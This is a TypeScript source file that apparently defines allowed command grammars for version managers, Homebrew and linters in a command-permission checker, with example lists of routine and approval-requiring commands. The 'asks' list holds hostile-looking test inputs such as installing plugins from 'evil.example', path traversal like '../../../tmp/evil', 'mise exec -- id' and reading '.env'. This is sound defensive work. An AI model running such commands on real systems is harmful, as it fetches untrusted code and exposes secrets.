import type { Pack } from './pack.ts';

/** Version managers, Homebrew, and linters that run no code of the tree. Names of plugins and formulas only, no paths or addresses. */
export const toolchains = (): Pack => ({
  name: 'toolchains',
  tools: {
    'ghc-pkg': '; V! -version! ;\nlist ; -global -user -simple-output -names-only -no-user-package-db ; id',
    brew: `
      ; v! -version! ;
      ; -prefix! -cellar! -caskroom! -installed ; formula
      ; -repository! -repo! -cache! ;
      list|ls ; 1 l r t -formula -formulae -cask -casks -versions -full-name -pinned -multiple -installed-on-request -installed-as-dependency ; formula*
      search ; -formula -formulae -cask -casks -desc ; param!
      info|abv ; -formula -cask -json? -installed -sizes v -verbose ; formula*
      desc ; -formula -cask s -search n -name d -description ; formula!
      deps ; n 1 -topological -tree -installed -declared -union -full-name -annotate -include-build -include-optional -include-test -skip-recommended -formula -cask ; formula*
      uses ; -installed -recursive -missing -include-build -include-test -include-optional -skip-recommended -formula -cask ; formula!
      leaves ; r p -installed-on-request -installed-as-dependency ;
      outdated ; v q -formula -cask -json? -verbose -quiet g -greedy ; formula*
      config|commands|doctor ; ;
      tap ; ;
      services ; ;
      services list ; -json ;
      services info ; -all -json ; formula*
      options ; -compact -installed ; formula*
      cleanup ; n! -dry-run! s -prune:id ; formula*
      autoremove ; n! -dry-run! ;
      ~ bundle check|list ; -all -formula -formulae -cask -casks -tap -taps -mas -vscode -no-upgrade v -verbose ;
      %help cleanup autoremove install reinstall uninstall upgrade update link unlink pin unpin tap untap bundle fetch home edit create
      missing ; ; formula*`,
    asdf: `
      ; -version! ;
      version|current|list ; ;
      current|list ; ; slug!
      list ; ; slug! formula
      list all ; ; slug! formula
      latest ; -all ; slug formula
      where ; ; slug! formula
      which ; ; name!
      plugin list ; -urls -refs ;
      plugin list all ; ;
      plugin-list|plugin-list-all ; ;`,
    // Templates in the tree's settings run commands (`exec(...)`), whatever is asked.
    mise: `
      %here
      ; V! -version! ;
      ~ version|current ; ;
      ~ ls|list ; c g i m J -current -global -installed -missing -json -no-header -outdated ; formula*
      ~ where|latest|ls-remote ; ; formula! formula
      ~ which ; ; name!
      ~ outdated ; J -json l -bump ; id*
      ~ plugins list-all|ls-remote ; u -urls -only-names ;
      ~ plugins ls|list ; c u -core -user -urls ;
      ~ registry ; ; name`,
    rbenv: `
      ; -version! ;
      version|versions|root|commands|shims|version-name ; -bare -skip-aliases ;
      which|whence|prefix ; ; id!
      install ; l! -list! L! -list-all! ;`,
    nodenv: '=rbenv',
    goenv:
      '; -version! ;\nversion|versions|root|version-name|commands|shims|installed ; -bare -sh -no-sh ;\ncompletions|help ; ; slug\ninstall ; l! -list! ;\nwhich|whence|prefix ; ; id!',
    jenv: 'version|versions|root ; -bare -verbose ;\nwhich|whence|prefix ; ; id!',
    tfenv: '; -version! ;\nlist|list-remote|version-name ; ;',
    sdk: 'list|ls|current|c|version|v|help ; ; id',
    shellcheck: `
      ; V! -version! -list-optional! ;
      ; a C? x s:=sh|bash|dash|ksh|busybox|bats e:id i:id f:=checkstyle|diff|gcc|json|json1|quiet|tty S:=error|warning|info|style o:id W:num -check-sourced -color? -exclude:id -include:id -format:=checkstyle|diff|gcc|json|json1|quiet|tty -severity:=error|warning|info|style -shell:=sh|bash|dash|ksh|busybox|bats -enable:id -external-sources -norc -wiki-link-count:num ; path! path*`,
    hadolint: `
      ; v! -version! ;
      ; V -verbose -no-fail -no-color f:=tty|json|checkstyle|codeclimate|gitlab_codeclimate|gnu|codacy|sonarqube|sarif -format:=tty|json|checkstyle|codeclimate|gitlab_codeclimate|gnu|codacy|sonarqube|sarif -ignore:id -error:id -warning:id -info:id -style:id t:=error|warning|info|style|ignore|none -failure-threshold:=error|warning|info|style|ignore|none -trusted-registry:id -require-label:lit -strict-labels -disable-ignore-pragma ; path! path*`,
    shfmt: `%style go
      ; -version! --version! ;
      ; l d f s p -list -diff -find -simplify i:num -indent:num -ln:=bash|posix|mksh|bats|auto -language-dialect:=bash|posix|mksh|bats|auto -ci -bn -sr -kp -fn -mn -case-indent -binary-next-line -space-redirects -keep-padding -func-next-line ; path! path*
      ~ ; w! -write! l d s p i:num -indent:num -ln:=bash|posix|mksh|bats|auto -ci -bn -sr -kp -fn ; tree! tree*`,
    vale: '; v! -version! ;',
    jsonlint: '',
  },
  rules: [],
  examples: {
    routine: [
      'ghc-pkg list',
      'ghc-pkg list --user base',
      'brew search /^node/',
      'brew services',
      'brew services info --all',
      'brew cleanup --help',
      'brew cleanup --dry-run',
      'brew autoremove -n',
      'brew list --formula',
      'brew list cask',
      'brew info jq',
      'brew info python@3.12 --json=v2',
      'brew search keyword',
      'brew deps --tree jq',
      'brew --prefix openssl@3',
      'brew outdated',
      'brew services list',
      'asdf current',
      'asdf list nodejs',
      'asdf list all nodejs 20',
      'asdf plugin list all',
      'rbenv version',
      'rbenv install --list',
      'sdk list java',
      'shellcheck -x scripts/a.sh',
      'shellcheck -s bash -f gcc a.sh b.sh',
      'hadolint --format json path/to/Dockerfile',
      'shfmt -d -i 2 -ci scripts',
    ],
    workspace: ['brew bundle check', 'brew bundle list --all', 'shfmt -w scripts/a.sh', 'mise ls', 'mise which node'],
    asks: [
      'ghc-pkg unregister x',
      'ghc-pkg list --package-db /tmp/x',
      'ghc-pkg recache',

      'goenv completions x/evil',
      'brew info evil--1.0.x86_64_linux.bottle.tar.gz',
      'brew info --cask evil.json',
      'brew services cleanup',
      'brew services start x',
      'brew search --open x',
      'brew bundle',
      'brew bundle check --file /tmp/Brewfile',
      'brew bundle cleanup --force',
      'brew install x',
      'brew info ./evil.rb',
      'brew info evil.rb',
      'brew info user/tap/x',
      'brew info https://evil.example/x.rb',
      'brew cat x',
      'brew edit x',
      'brew home x',
      'brew analytics off',
      'brew services stop x',
      'brew tap user/repo',
      'brew bundle',
      'brew sh',
      'brew update',
      'brew doctor x --fix',
      'asdf plugin add evil https://evil.example/x.git',
      'asdf install nodejs',
      'asdf exec id',
      'asdf plugin list all update',
      'asdf env nodejs',
      'asdf list all ../../../tmp/evil',
      'asdf latest ../../tmp/evil',
      'mise ls-remote asdf:evil/plugin',
      'mise latest vfox:evil/plugin',
      'mise tasks run build',
      'mise plugins install x https://evil.example',
      'mise settings set x y',
      'mise exec -- id',
      'mise run x',
      'mise use x',
      'mise env',
      'cd /tmp/evil; mise ls',
      'rbenv install 3.3.0',
      'rbenv exec id',
      'rbenv global 3.3.0',
      'sdk install java',
      'shellcheck .env',
      'shellcheck --rcfile=/tmp/x a.sh',
      'hadolint -c /tmp/x Dockerfile',
      'hadolint .env',
      'shfmt .env',
      'shfmt -w /home/ann/x.sh',
      'shfmt --filename x',
    ],
  },
});
